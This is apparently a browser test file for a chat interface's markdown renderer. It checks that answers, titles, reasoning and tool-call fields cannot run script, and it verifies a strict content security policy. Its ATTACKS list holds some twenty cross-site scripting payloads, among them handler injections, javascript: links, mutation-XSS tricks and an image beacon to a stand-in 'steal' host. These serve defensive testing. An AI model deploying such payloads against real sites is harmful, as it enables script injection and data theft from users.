import assert from "node:assert/strict";
import { answered, ask, conversationFile, importJson, mock, pageTest } from "./harness.mjs";

const ATTACKS = [
  "<script>globalThis.hit = 1</script>",
  "<img src=x onerror='globalThis.hit = 1'>",
  "<svg onload='globalThis.hit = 1'><use href='data:x'/></svg>",
  "[click](javascript:globalThis.hit=1)",
  "[click](JaVaScRiPt&#58;globalThis.hit=1)",
  "[click](data:text/html,<script>globalThis.hit=1</script>)",
  "![picture](https://elsewhere.invalid/steal?what=secret)",
  "![x](javascript:globalThis.hit=1)",
  "<iframe src='javascript:globalThis.hit=1'></iframe>",
  "<a href=\"https://ok.invalid\" onclick=\"globalThis.hit = 1\">a</a>",
  "<style>body { display: none }</style>",
  "<form action='https://elsewhere.invalid'><input name=q><button>go</button></form>",
  "<base href='https://elsewhere.invalid/'>",
  "<meta http-equiv=refresh content='0;url=https://elsewhere.invalid'>",
  "```\"><img src=x onerror=globalThis.hit=1>\ncode\n```",
  "```html\n<img src=x onerror=globalThis.hit=1>\n```",
  "[a]: javascript:globalThis.hit=1\n\n[a] <a href=x id=app name=app>b</a>",
  "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=globalThis.hit=1&gt;\">",
  "<https://a.invalid/\"onmouseover=\"globalThis.hit=1>",
  "| a |\n| - |\n| <img src=x onerror=globalThis.hit=1> |",
];

async function assertHarmless(page) {
  await page.waitForTimeout(300);
  assert.equal(await page.evaluate(() => globalThis.hit), undefined);
  const found = await page.evaluate(() => {
    const inside = (selector) => [...document.querySelectorAll(`.message ${selector}, .sidebar ${selector}`)];
    return {
      tags: inside("*").map((e) => e.localName).filter((n) => /^(script|img|iframe|style|form|base|meta|math|object|embed|link)$/.test(n)),
      handlers: inside("*").flatMap((e) => [...e.attributes].map((a) => a.name).filter((n) => n.startsWith("on"))),
      links: inside(".markdown a").map((a) => a.protocol).filter((p) => !/^(https?|mailto):$/.test(p)),
      rel: inside(".markdown a").filter((a) => a.rel !== "noopener noreferrer nofollow" || a.target !== "_blank").length,
    };
  });
  assert.deepEqual(found, { tags: [], handlers: [], links: [], rel: 0 });
}

pageTest("shouldRunNothingOfAnAnswer", async (page) => {
  await importJson(page, conversationFile("Attacks", ATTACKS.flatMap((attack) => ["Go on", attack])));
  await page.locator(".answer").nth(ATTACKS.length - 1).waitFor();
  for (let i = 0; i < ATTACKS.length; i++) {
    await page.locator(".answer").nth(i).scrollIntoViewIfNeeded();
    await page.locator(".answer").nth(i).locator(".markdown:not(.plain)").waitFor();
  }
  await assertHarmless(page);
  assert.match(await page.locator(".answer").first().textContent(), /<script>globalThis\.hit = 1<\/script>/);
});

pageTest("shouldRunNothingOfAnAnswerThatIsStreamed", { mock: true }, async (page) => {
  for (const attack of ATTACKS.slice(0, 8)) await ask(page, `say ${attack}`);
  await assertHarmless(page);
});

pageTest("shouldRunNothingOfTitlesQuestionsThoughtsAndTools", async (page) => {
  const attack = "<img src=x onerror='globalThis.hit = 1'>";
  const file = conversationFile(attack, [attack, "answer"]);
  Object.assign(file.conversations[0].messages[1], {
    reasoning: attack,
    toolCalls: [{ id: attack, name: attack, arguments: JSON.stringify({ [attack]: attack }) }],
    timings: { predicted_n: attack, predicted_per_second: 5 },
  });
  file.conversations[0].conversation.system = attack;
  await importJson(page, file);
  await answered(page);
  await page.locator(".thinking summary").click();
  await page.getByRole("button", { name: /^More for/ }).click();
  await assertHarmless(page);
  assert.equal(await page.locator(".conversations .title").innerText(), attack);
  assert.equal(await page.title(), `${attack} – dllama`);
  assert.equal(await page.locator(".bubble").innerText(), attack);
});

pageTest("shouldServeTheStrictPolicyAndHoldIt", async (page) => {
  const response = await page.goto(page.url().split("#")[0]);
  const policy = response.headers()["content-security-policy"];
  assert.match(policy, /default-src 'none'/);
  assert.match(policy, /script-src 'self'(;|$)/);
  assert.match(policy, /style-src 'self'(;|$)/);
  assert.match(policy, /connect-src 'self'(;|$)/);
  assert.match(policy, /require-trusted-types-for 'script'/);
  assert.doesNotMatch(policy, /unsafe/);
  assert.equal(response.headers()["x-content-type-options"], "nosniff");
  assert.equal(await page.locator("[style]:not(canvas, .uplot *, textarea)").count(), 0);
  assert.equal(await page.locator("script:not([src])").count(), 0);
});

const TEXTS = [
  "# Title\n\nA paragraph with *emphasis*, `code` and\na second line.\n\n1. one\n2. two\n   - deep\n   - deeper\n\n3. three\n\n> quoted\n> more\n\nEnd.",
  "Before\n\n```python\ndef f(x):\n\n    return x\n```\n\nafter\n\n| a | b |\n| - | -: |\n| 1 | 2 |\n\n---\n\nSetext\n======\n\n- [ ] to do\n- [x] done\n",
  "See [the page][p] and [that](https://that.invalid).\n\ntext\r\nwith other ends\r\n\r\n[p]: https://page.invalid\n\nlast",
  "* a\n\n* b\n\n  para in b\n\n      code in b\n\npara\n\n    indented code\n\n    more of it\n\n<div>\nhtml\n</div>\n\nend",
];

pageTest("shouldRenderWhatGrowsAsItRendersTheWhole", { mock: true }, async (page) => {
  for (const text of TEXTS) {
    const n = await page.locator(".answer").count();
    await ask(page, `say ${text}`);
    const html = () => page.locator(".answer").nth(n).locator(".markdown:not(.plain)").innerHTML();
    const grown = await html();
    await page.reload();
    await page.locator(".answer").nth(n).scrollIntoViewIfNeeded();
    assert.equal(grown, await html());
    assert.match(grown, /<(h1|p|ul)>/);
  }
  assert.equal(mock.state.requests.length, TEXTS.length);
});

pageTest("shouldCopyCodeAndAnswers", { context: { permissions: ["clipboard-read", "clipboard-write"] } }, async (page) => {
  const answer = "Look:\n\n```js\nconst a = 1 < 2;\n```\n\nand\n\n```\nplain\n```";
  await importJson(page, conversationFile("Code", ["Show code", answer]));
  const read = () => page.evaluate(() => navigator.clipboard.readText());
  await page.getByRole("button", { name: "Copy code" }).first().click();
  await page.locator(".copy-code", { hasText: "Copied" }).waitFor();
  assert.equal((await read()).trimEnd(), "const a = 1 < 2;");
  assert.equal(await page.locator(".code-head span").first().innerText(), "js");
  assert.ok((await page.locator(".hljs-keyword").count()) > 0);
  await page.getByRole("button", { name: "Copy answer" }).click();
  await page.getByRole("button", { name: "Copied" }).waitFor();
  assert.equal(await read(), answer);
});
